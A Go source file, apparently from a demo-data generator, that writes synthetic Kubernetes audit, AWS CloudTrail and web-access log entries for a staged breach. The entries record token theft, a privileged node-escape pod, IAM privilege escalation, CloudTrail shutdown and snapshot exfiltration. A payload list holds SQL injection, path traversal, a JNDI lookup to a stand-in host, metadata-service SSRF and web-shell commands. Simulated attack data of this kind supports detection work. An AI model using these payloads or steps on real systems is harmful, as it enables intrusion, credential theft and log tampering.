// SPDX-FileCopyrightText: 2026 The Gambeson Authors
// SPDX-License-Identifier: Apache-2.0

package demo

import (
	"fmt"
	"net/url"
	"time"
)

// asVictim is a request to the cluster with the person's configuration, from
// the build server.
func (p *plan) asVictim(verb string, o object, code int) request {
	return request{user: p.victim.login, groups: []string{"platform-admins", "system:authenticated"}, ip: buildIP, agent: kubectl, verb: verb, object: o, code: code,
		reason: `RBAC: allowed by ClusterRoleBinding \"platform-admins\" of ClusterRole \"cluster-admin\" to Group \"platform-admins\"`}
}

const paymentsPod = "payments-api-6c9f7d8b5-x2k4p"

// enterPod looks around in a container that holds keys of the cloud.
func enterPod(p *plan, at int64) {
	for _, command := range []string{"/bin/sh", "env", "cat /var/run/secrets/eks.amazonaws.com/serviceaccount/token"} {
		r := p.asVictim("create", object{"", "v1", "pods", "payments", paymentsPod, "exec"}, 101)
		r.query = "?command=" + url.QueryEscape(command) + "&container=api&stdin=true&stdout=true&tty=true"
		p.request(at, r)
		at = p.soon(at+8e9, 20*time.Second)
	}
}

// listSecrets reads all secrets of the cluster.
func listSecrets(p *plan, at int64) {
	r := p.asVictim("list", object{"", "v1", "secrets", "", "", ""}, 200)
	r.query = "?limit=500"
	p.request(at, r)
	for _, ns := range namespaces() {
		at += 2e9
		p.request(at, p.asVictim("get", object{"", "v1", "secrets", ns, ns + "-api-credentials", ""}, 200))
	}
}

// escapeToNode starts a pod that is the node's root: with the configuration
// that was taken from the build server, from the intruder's own address.
func escapeToNode(p *plan, at int64) {
	r := p.asVictim("create", object{"", "v1", "pods", "kube-system", "", ""}, 201)
	r.level, r.ip = "Request", intruder().ip
	r.payload = `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"` + intruderFile + `","namespace":"kube-system"},"spec":{"nodeName":"node-3","hostPID":true,"hostNetwork":true,` +
		`"volumes":[{"name":"host","hostPath":{"path":"/","type":""}}],"containers":[{"name":"` + intruderFile + `","image":"docker.io/library/alpine:3.22",` +
		`"command":["nsenter","-t","1","-m","-u","-i","-n","sh"],"volumeMounts":[{"name":"host","mountPath":"/host"}],"securityContext":{"privileged":true}}]}}`
	p.request(at, r)
	r = p.asVictim("create", object{"", "v1", "pods", "kube-system", intruderFile, "exec"}, 101)
	r.ip = intruder().ip
	p.request(at+25e9, r)
}

// asBackup is a call with the key that was in the container.
func asBackup(ip, source, name, parameters string) cloudCall {
	return cloudCall{user: "payments-backup", key: backupKey, ip: ip, agent: cli, source: source, name: name, parameters: parameters}
}

// createAccessKey finds out, from the container, what the key may do, and from
// elsewhere takes all rights and makes another key.
func createAccessKey(p *plan, at int64) {
	c := asBackup(egressIP, "sts", "GetCallerIdentity", "")
	c.reads = true
	p.cloud(at, c)
	for _, name := range []string{"ListUsers", "ListAttachedUserPolicies", "ListAccessKeys"} {
		at += 4e9
		c = asBackup(egressIP, "iam", name, "")
		c.reads = true
		p.cloud(at, c)
	}
	c = asBackup(intruder().ip, "iam", "CreateAccessKey", `{"userName":"terraform"}`)
	c.response = `{"accessKey":{"accessKeyId":"` + newKey + `","status":"Active","userName":"terraform","createDate":"Nov 16, 2026, 7:13:20 AM"}}`
	p.cloud(at+9e9, c)
	c = asBackup(intruder().ip, "iam", "AttachUserPolicy", `{"userName":"payments-backup","policyArn":"arn:aws:iam::aws:policy/AdministratorAccess"}`)
	p.cloud(at+21e9, c)
}

const newKey = "AKIAXGCVWQHFTYBNLKSE"

// asTerraform is a call with the new key, from the intruder's own address.
func asTerraform(source, name, parameters string) cloudCall {
	return cloudCall{user: "terraform", key: newKey, ip: intruder().ip, agent: cli, source: source, name: name, parameters: parameters}
}

// stopTrail ends the recording, as far as the intruder knows: the
// organisation has a second trail.
func stopTrail(p *plan, at int64) {
	c := asTerraform("cloudtrail", "DescribeTrails", "")
	c.reads = true
	p.cloud(at, c)
	p.cloud(at+8e9, asTerraform("cloudtrail", "StopLogging", `{"name":"arn:aws:cloudtrail:`+region+`:`+account+`:trail/account"}`))
	p.cloud(at+15e9, asTerraform("cloudtrail", "DeleteTrail", `{"name":"arn:aws:cloudtrail:`+region+`:`+account+`:trail/account"}`))
}

// shareSnapshot gives the payments database to a stranger's account, and takes
// what is in the backups.
func shareSnapshot(p *plan, at int64) {
	p.cloud(at, asTerraform("ec2", "ModifySnapshotAttribute",
		`{"snapshotId":"snap-0b7f1c9d2e4a68350","createVolumePermission":{"add":{"items":[{"userId":"820419375516"}]}},"attributeType":"CREATE_VOLUME_PERMISSION"}`))
	p.cloud(at+14e9, asTerraform("rds", "ModifyDBSnapshotAttribute",
		`{"dBSnapshotIdentifier":"payments-nightly","attributeName":"restore","valuesToAdd":["820419375516"]}`))
	for i := range 40 {
		c := asTerraform("s3", "GetObject", fmt.Sprintf(`{"bucketName":"corvane-payments-backup","key":"payments/2026-11-15/part-%04d.dump"}`, i))
		c.reads, c.data = true, true
		p.cloud(at+30e9+int64(i)*900e6, c)
	}
}

// attackGateway tries what a gateway may let through.
func attackGateway(p *plan, at int64) {
	for _, target := range []string{
		"/search?q=%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-", "/charts/..%2f..%2f..%2f..%2fetc/passwd", "/../../../../etc/passwd",
		"/search?q=${jndi:ldap://198.51.100.77:1389/x}", "/api/v2/preview?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
	} {
		p.hit(at, hit{intruder().ip, "GET", target, one(p.rng, []int{200, 400, 404, 500}), 800 + p.rng.IntN(900), "", firefox})
		at = p.soon(at+2e9, 9*time.Second)
	}
}

// useWebShell runs commands through a script that was uploaded, and fetches
// an archive.
func useWebShell(p *plan, at int64) {
	p.hit(at, hit{intruder().ip, "POST", "/support/upload", 201, 310, shopURL + "/support", firefox})
	for _, target := range []string{"/uploads/" + intruderFile + ".php?cmd=id", "/uploads/" + intruderFile + ".php?cmd=cat+/etc/passwd"} {
		at = p.soon(at+3e9, 9*time.Second)
		p.hit(at, hit{intruder().ip, "GET", target, 200, 300 + p.rng.IntN(900), "", firefox})
	}
	at += 6e9
	p.hit(at, hit{intruder().ip, "POST", "/uploads/" + intruderFile + ".php", 200, 512, "", firefox})
	p.hit(at+20e9, hit{intruder().ip, "GET", "/uploads/" + intruderFile + ".tar.gz", 200, 734_003_200, "", firefox})
}
